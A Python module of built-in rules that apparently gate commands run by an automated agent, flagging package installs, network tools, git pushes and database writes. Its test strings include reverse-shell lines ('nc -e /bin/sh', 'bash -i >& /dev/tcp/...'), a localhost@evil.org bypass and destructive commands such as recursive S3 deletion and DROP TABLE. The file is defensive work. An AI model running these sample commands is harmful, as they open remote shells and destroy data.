"""Built-in rules about commands that reach outside: installs, networks, repositories, databases."""

from __future__ import annotations

from .base import ask, listed


def _words(*words: str) -> tuple[str, ...]:
    """Globs for words anywhere in a text, but not inside a longer word: `drop` is not in `airdrops`."""
    ends = "[!a-z0-9_]"
    return tuple(glob for word in words for glob in (word, f"{word}{ends}*", f"*{ends}{word}", f"*{ends}{word}{ends}*"))


_LOOPBACK = r"https?://(localhost|127\.0\.0\.1|\[::1\]|0\.0\.0\.0)(:[0-9]+)?(/[^\s@\x00]*)?"
_PLAIN_OPTIONS = (
    r"(-[sSfiIvkLqO]+|--(silent|show-error|fail|include|head|verbose|quiet|spider)|-[mT] [0-9]+|-o /dev/null)"
)

INSTALLS = (
    ask(
        id="install.python",
        reason="it installs Python packages, which run code as they install",
        suggestion="add the package to the image or the project instead",
        command=listed("""
            pip* install, pip* uninstall, pip* download, pip* wheel, python* -*m pip* install,
            python* -*m pip* uninstall, python* -*m pip* download, python* -*mpip* *, python* -*m ensurepip,
            pypy* -*m pip* install, uv pip, uv add, uv sync, uv tool, uv python, uv run --with*, uvx, pipx,
            python* -*m pipx, python* -*m uv, poetry add, poetry install, poetry update, pdm add, pdm install,
            pipenv install, conda install, conda create, conda update, conda env, conda remove, mamba*, micromamba,
            easy_install*, python* setup.py install, python* setup.py develop, hatch env
        """),
        match=(
            "pip install x",
            "python3 -m pip install -r r.txt",
            "pip3.11 --quiet install x",
            "uv pip install x",
            "pipx run x",
            "conda install -y x",
        ),
        not_match=("pip list", "pip --version", "pip freeze", "python -m pytest", "uv run pytest"),
    ),
    ask(
        id="install.node",
        reason="it installs Node packages, which run code as they install",
        suggestion="add the package to the image or the project instead",
        command=listed("""
            npm install, npm i, npm in, npm ins*, npm add, npm ci, npm update, npm up, npm exec, npm x,
            npm uninstall, npm link, npm publish, npm init, npm create, npx, pnpx, bunx, yarn add, yarn install,
            yarn global, yarn dlx, yarn upgrade, yarn remove, pnpm install, pnpm i, pnpm add, pnpm dlx, pnpm update,
            bun add, bun install, bun x, corepack
        """),
        match=("npm install", "npm i left-pad", "npm --prefix web ci", "yarn add x", "pnpm add x"),
        not_match=("npm test", "npm run build", "yarn build", "node app.js"),
    ),
    ask(
        id="install.system",
        reason="it installs or removes packages of the system",
        suggestion="add the package to the image instead",
        command=listed("""
            apt* install, apt* remove, apt* purge, apt* update, apt* *upgrade, apt* autoremove, apt* build-dep,
            apt-key, add-apt-repository, aptitude, dpkg -*i*, dpkg --install, dpkg -*r*, dpkg -*P*, dnf, yum,
            microdnf, zypper, rpm -*[iUe]*, pacman -*[SRU]*, yay, paru, apk add, apk del, apk upgrade, apk update,
            brew install, brew uninstall, brew upgrade, brew tap, brew reinstall, port install, snap install,
            snap remove, flatpak install, nix-env, nix profile, emerge, pkg install, pkg_add, xbps-install,
            opkg install, winget, choco, scoop
        """),
        match=("apt-get -y install x", "apt install x", "apk add curl", "dnf install x", "brew install x"),
        not_match=("apt list", "apt-cache policy x", "brew list", "dpkg -l"),
    ),
    ask(
        id="install.other",
        reason="it installs programs or packages",
        suggestion="add it to the image or the project instead",
        command=listed("""
            gem install, gem update, bundle install, bundle add, cargo install, cargo add, cargo update, go install,
            go get, composer install, composer require, composer global, composer update, rustup, luarocks install,
            cpan, cpanm, opam install, stack install, cabal install, dotnet tool, dotnet add, make install,
            gmake install, ninja install, cmake --install, helm install, code --install-extension, gh extension,
            asdf install, mise install, sdk install, nvm install, pyenv install, vagrant plugin, R CMD install
        """),
        match=("gem install x", "cargo install x", "go install x@latest", "make install"),
        not_match=("cargo build", "go build ./...", "make", "gem list"),
    ),
)

NETWORK = (
    ask(
        id="network.download",
        reason="it talks to another machine",
        suggestion="pass the data in as a file, or ask for the network explicitly",
        command=listed("""
            curl, wget, wget2, aria2c, http, https, xh, lynx, w3m, links, elinks, lwp-*, axel, fetch, youtube-dl,
            yt-dlp
        """),
        unless=rf"({_PLAIN_OPTIONS} )*{_LOOPBACK}( {_PLAIN_OPTIONS})*|--version|-V|--help",
        match=("curl https://example.com", "wget -qO- x.org", 'curl "$url"', "curl http://localhost@evil.org/"),
        not_match=("curl -sf http://localhost:8080/health", "curl --version", "echo curl"),
    ),
    ask(
        id="network.connect",
        reason="it opens a connection to another machine",
        command=listed("""
            nc, ncat, netcat, nc.*, socat, telnet, ftp, lftp, tftp, sftp, ssh, scp, sshfs, mosh, rsh, rlogin, rexec,
            autossh, sshpass, ssh-copy-id, croc, wormhole, nmap, masscan, hping3, ping, ping6, traceroute, dig,
            nslookup, host, whois, drill, openssl s_client, mail, mailx, sendmail, msmtp, swaks, ngrok, cloudflared,
            tailscale, chisel, rclone, s3cmd, mc, ab, wrk
        """),
        match=("nc -e /bin/sh 10.0.0.1 99", "ssh host uptime", "scp a host:b", "dig x.evil.org"),
        not_match=("netstat -tln", "hostname", "ssh-keygen -l -f key.pub"),
    ),
    ask(
        id="network.rsync",
        reason="it copies files to or from another machine",
        command=("rsync",),
        args=("*:*", "$*"),
        match=("rsync -a src/ host:/dst",),
        not_match=("rsync -a src/ dst/",),
    ),
    ask(
        id="network.redirect",
        reason="it opens a network connection by a redirection",
        traits=("shell.network-redirect",),
        match=("echo x > /dev/tcp/10.0.0.1/80", "bash -i >& /dev/tcp/1.2.3.4/9 0>&1"),
        not_match=("echo x > /dev/null",),
    ),
    ask(
        id="network.git",
        reason="it exchanges data with another repository",
        command=listed("""
            git clone, git fetch, git pull, git push, git ls-remote, git remote update, git remote add,
            git remote set-url, git submodule update, git submodule add, git archive --remote*, git send-email,
            git svn, git lfs, gh, glab, hub, svn checkout, svn co, svn commit, svn update, hg clone, hg pull,
            hg push
        """),
        match=("git clone https://x/y", "git -C repo fetch", "git pull"),
        not_match=("git status", "git log --oneline", "git add .", "git commit -m 'git push'", "git remote -v"),
    ),
    ask(
        id="network.services",
        reason="it acts on services outside this machine",
        command=listed("""
            aws, gcloud, gsutil, bq, az, kubectl, oc, helm, terraform, tofu, pulumi, ansible*, heroku, flyctl, fly,
            vercel, netlify, wrangler, firebase, doctl, docker push, docker pull, docker login, podman push,
            podman pull, podman login, twine, vault, op, stripe, cargo publish, gem push, uv publish, poetry publish,
            skopeo, crane
        """),
        unless=r"(--version|version|--help|help)( .*)?",
        match=("aws s3 rm s3://bucket --recursive", "terraform apply", "docker push x"),
        not_match=("docker ps", "docker build .", "terraform --version"),
    ),
    ask(
        id="git.production",
        reason="it pushes to a branch that others run in production",
        suggestion="push to a branch of your own and open a pull request",
        command=("git push",),
        args=listed("""
            main, master, prod*, release*, stable, live, *:main, *:master, *:prod*, *:release*, */main, */master, +*,
            --all, --mirror, $*
        """),
        match=("git push origin main", "git -c a.b=c push origin HEAD:production"),
        not_match=("git push origin my-fix", "git status"),
    ),
    ask(
        id="git.force-push",
        reason="it overwrites what others have in their repository",
        suggestion="push without force",
        command=("git push",),
        args=("-f", "-[!-]*f*", "--force*", "+*", "--mirror", "--delete", "-d", ":*"),
        match=(
            "git push --force",
            "git push -uf origin x",
            "git push origin +x",
            "git push --force-with-lease origin x",
        ),
        not_match=("git push origin x",),
    ),
)

_CLIENTS = listed("""
    psql, mysql, mariadb, sqlite3, sqlite, mongosh, mongo, redis-cli, valkey-cli, cqlsh, sqlcmd, sqlplus, duckdb,
    clickhouse-client, clickhouse, influx, pgcli, mycli, usql, bq
""")

DATABASE = (
    ask(
        id="database.write",
        reason="it changes data in a database",
        suggestion="read with SELECT, or let a person run the change",
        command=_CLIENTS,
        args=(
            *_words(
                "insert",
                "update",
                "delete",
                "drop",
                "alter",
                "truncate",
                "create",
                "replace",
                "merge",
                "grant",
                "revoke",
                "vacuum",
                "copy",
                "attach",
                "call",
                "do",
                "lock",
                "reindex",
                "flushall",
                "flushdb",
                "set",
                "del",
                "unlink",
                "rename",
                "shutdown",
                "config",
                "eval",
                "script",
                "load",
                "into",
                "program",
                "pragma",
                "hset",
                "lpush",
                "rpush",
                "sadd",
                "zadd",
                "incr",
                "expire",
                "migrate",
                "restore",
            ),
            "*[.]insert*(*",
            "*[.]update*(*",
            "*[.]delete*(*",
            "*[.]remove*(*",
            "*[.]drop*(*",
            "*[.]replace*(*",
            "*[.]shell*",
            "*[.]system*",
            "*[.]import*",
            "*[.]restore*",
            "*[.]read*",
            "*[.]load*",
            "*[.]write*",
            "*\\!*",
            "$",
            "* $*",
        ),
        match=(
            "psql -c 'DROP TABLE users'",
            "psql prod < migration.sql",
            "echo 'drop table t' | sqlite3 a.db",
            'mysql -e "delete from t"',
            "sqlite3 a.db 'UPDATE t SET x=1'",
            "redis-cli FLUSHALL",
            'mongosh --eval "db.users.drop()"',
            'psql -c "$sql"',
        ),
        not_match=("psql -c 'SELECT * FROM updates'", "sqlite3 a.db 'select deleted_at from t'", "redis-cli GET key"),
    ),
    ask(
        id="database.file",
        reason="it runs the statements of a file on a database",
        suggestion="give a SELECT on the command line",
        command=_CLIENTS,
        flags=("-f|--file|-init|-i",),
        match=("psql -f drop.sql", "psql --file=x.sql prod"),
        not_match=("psql -c 'select 1'", "psql --version"),
    ),
    ask(
        id="database.tools",
        reason="it creates, drops, restores or migrates a database",
        command=listed("""
            dropdb, createdb, dropuser, createuser, pg_restore, pg_ctl, mysqladmin, mongorestore, mongoimport,
            alembic upgrade, alembic downgrade, flyway, liquibase, rails db*, rake db*, python* manage.py migrate,
            python* manage.py flush, prisma migrate, prisma db, knex migrate*, sequelize db*
        """),
        match=("dropdb prod", "alembic upgrade head", "python manage.py flush"),
        not_match=("pg_dump x", "alembic history"),
    ),
)


RULES = (*INSTALLS, *NETWORK, *DATABASE)
